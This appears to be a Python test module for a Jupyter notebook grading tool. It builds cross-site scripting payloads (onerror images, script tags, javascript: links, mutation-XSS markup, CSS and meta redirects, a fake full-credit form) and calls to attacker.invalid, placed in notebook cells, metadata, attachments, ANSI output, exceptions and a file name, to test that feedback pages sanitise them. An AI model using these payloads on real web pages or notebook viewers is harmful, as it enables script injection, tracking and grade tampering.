"""Text that would be a program in the browser of whoever opens the feedback or the formgrader.

Each payload sets `window.attacked`, opens a dialog or loads from attacker.invalid.
"""

from .attack import MIME, Attack, everywhere

RUN = "window.attacked=1;alert(1);fetch('http://attacker.invalid/')"
IMG = f'<img src=x onerror="{RUN}">'
SCRIPT = f"<script>{RUN}</script>"
TRACKER = '<img src="http://attacker.invalid/pixel.png">'
BOTH = "</pre></div>--></textarea></title></style>" + SCRIPT + IMG + TRACKER

MARKDOWN = (
    BOTH,
    IMG + f"<svg onload={RUN}></svg><details open ontoggle={RUN}><iframe src='javascript:{RUN}'></iframe>",
    f"[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) [c](data:text/html,{SCRIPT})"
    f" <a href='java\tscript:{RUN}'>d</a>",
    f"```mermaid\n{BOTH}\n```\n\n```python\n{BOTH}\n```\n\n`{BOTH}`",
    f'![a](x" onerror="{RUN}) ![b](http://attacker.invalid/pixel.png) ![c](attachment:none)',
    f"![b](http://attacker.invalid/pixel.png) <video src='http://attacker.invalid/v'></video>{TRACKER}",
    "<style>@import 'http://attacker.invalid/x.css'; body {background: url(http://attacker.invalid/y)}</style>"
    "<link rel=stylesheet href=http://attacker.invalid/x.css><meta http-equiv=refresh content='0;url=http://attacker.invalid'>",
    "<base href='http://attacker.invalid/'><form action='http://attacker.invalid/'>"
    "<button class='full-credit'>x</button></form>"
    "<div id='statusmessage' class='score' data-link='x' style='position:fixed;inset:0;background:red'>y</div>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ $<img src=x onerror={RUN}>$ \\begin{{align}}{IMG}\\end{{align}}",
    f'| {IMG} |\n|---|\n| {SCRIPT} |\n\n# {IMG}\n\n> {IMG}\n\n- {IMG}\n\n[^1]: {IMG}\n\n<http://attacker.invalid/"onmouseover={RUN}>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=' + RUN + '&gt;">',
    "<div>" * 3000 + "[" * 3000 + IMG,
)

SAYS = f"BOTH = {BOTH!r}\nRUN = {RUN!r}\n"


def attachments(made: dict) -> None:
    """Pasted pictures that are none, in an own cell and in the written answer; hostile ids, tags and metadata."""
    pasted = {
        "a.png": {'image/png"><script>': f'x"{IMG}', "image/png": f'x" onerror="{RUN}'},
        "b.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"},
        "c": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
    }
    text = "![a](attachment:a.png) ![b](attachment:b.svg) ![c](attachment:c) [d](attachment:c)"
    made["metadata"] |= {"title": BOTH, "language_info": {"name": "python", "pygments_lexer": BOTH}}
    for cell in made["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "width":
            cell |= {"source": text, "attachments": pasted}
    hostile = {"tags": [BOTH], "raw_mimetype": "text/html", "format": "text/html"}
    made["cells"] += [
        {"cell_type": "markdown", "id": '"><script>', "metadata": hostile, "source": text, "attachments": pasted},
        {"cell_type": "raw", "id": "raw", "metadata": hostile, "source": BOTH},
        {"cell_type": "code", "id": "html", "metadata": {"tags": [BOTH]}, "source": f"%%html\n{BOTH}", "outputs": []},
    ]


def named_like_markup(folder, course):
    (folder / "position_wise.ipynb").rename(folder / "<img src=x onerror=alert(1)>.ipynb")


MARKUP = {
    "page printed": Attack(
        SAYS + "import sys\nprint(BOTH); print(BOTH, file=sys.stderr)\nprint('\\x1b[31m' + BOTH + '\\x1b[0m')"
    ),
    "page in ANSI codes": Attack(
        SAYS + "print('\\x1b[38;5;\"><script>alert(1)</script>m', '\\x1b[31\"onmouseover=alert(1)m', "
        "'\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07', '\\x1b[1;31;<img src=x onerror=alert(1)>m' + BOTH)"
    ),
    "page as exception": Attack(
        {
            "shapes": SAYS + "class E(Exception): pass\nE.__name__ = E.__qualname__ = BOTH\n"
            "def fail(*a): raise E(BOTH)\n" + everywhere("0", "fail"),
            "by_hand_relu": "raise E(BOTH)",
            "forward": "raise E('\\x1b[31m' + BOTH)",
            "parameters": "answer = type(BOTH, (), {})()\nstudent = BOTH",
        }
    ),
    "page displayed": Attack(
        SAYS
        + """
from IPython.display import *
for show in (HTML, Javascript, Markdown, Latex, Math, SVG, JSON, Code):
    try: display(show(BOTH))
    except Exception: pass
kinds = ("text/html", "text/markdown", "image/svg+xml", "text/latex", "application/javascript", "text/vnd.mermaid",
         "application/vnd.jupyter.widget-view+json", "application/pdf", "application/json", "text/plain")
display(dict.fromkeys(kinds, BOTH), raw=True)
about = {"image/png": {"width": BOTH, "filenames": BOTH}}
display({"image/png": "iVBORw0KGgo" + BOTH, "image/jpeg": BOTH}, raw=True, metadata=about)
IFrame("javascript:alert(1)", 1, 1)
"""
    ),
    "page published": Attack(
        SAYS
        + f"""
from IPython.display import display
import ffn_check.checkpoint
def publish(data):
    cases = [{{"error": BOTH, "where": BOTH, "changed": [BOTH], "warned": [BOTH]}}] * len(data.get("cases") or [])
    stages = dict.fromkeys(data.get("stages") or [], {{"unsupported": BOTH, "python": BOTH}})
    display({{"{MIME}": data | {{"student": BOTH, "problem": data.get("problem"), "cases": cases, "stages": stages,
             "answer": {{"unsupported": BOTH}}, "hint": BOTH}}}}, raw=True)
ffn_check.checkpoint.publish = publish
"""
        + everywhere("0")
    ),
    "page in the code": Attack(
        {"shapes": f"# {BOTH}\nx = {BOTH!r}\n%%html\n{BOTH}", "forward": BOTH, "collapse": f"'''{BOTH}"}
    ),
    "page in Markdown": Attack({"width": "\n\n".join(MARKDOWN[:-1])}, text=MARKDOWN),
    "page in attachments": Attack(change=attachments),
    "page in the file's name": Attack(beside=named_like_markup),
    "<img src=x onerror=alert(1)>": Attack(refused="markup"),
}
